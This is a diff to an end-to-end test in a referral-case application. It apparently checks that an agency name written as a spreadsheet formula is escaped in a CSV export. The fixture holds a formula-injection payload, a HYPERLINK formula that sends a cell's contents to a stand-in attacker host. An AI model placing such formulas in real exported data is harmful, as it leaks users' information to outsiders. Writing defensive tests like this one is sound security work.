@@ -6,13 +6,16 @@ from __future__ import annotations
 import csv
 import io
 from pathlib import Path
+from uuid import UUID
 
 from fastapi.testclient import TestClient
 
 from referral_engine.bootstrap import Runtime
-from tests.e2e.conftest import Callers, case_in, send_referral
+from tests import factories
+from tests.e2e.conftest import Callers, send_referral
 from tests.e2e.pages import sign_in
 from tests.e2e.test_cli import cli, pg_env
+from tests.factories import engine_on_version
 
 FORMULA = '=HYPERLINK("https://attacker.example/?leak="&A1,"Open")'
 ESCAPED = "'" + FORMULA
@@ -23,8 +26,11 @@ def cells(text: str) -> set[str]:
 
 
 def referred_to_a_formula(client: TestClient, callers: Callers, runtime: Runtime) -> None:
-    """A case referred to an agency whose name is a formula (its deadline answered by it)."""
-    case_id, version = case_in(client, callers, "application_registered")
+    """A case referred to an agency whose name is a formula (its deadline answered by it): a
+    case of version 4, whose agency was free text (version 5 takes a registry id only)."""
+    on_version_4 = engine_on_version(runtime.engine, "ukraine-nrm", 4)
+    case_id = str(factories.case_in(on_version_4, "application_registered"))
+    version = runtime.engine.case(UUID(case_id)).version
     response = send_referral(client, callers["lsa"], case_id, version, agency=FORMULA)
     assert response.status_code == 201, response.text
     runtime.projections.catch_up()
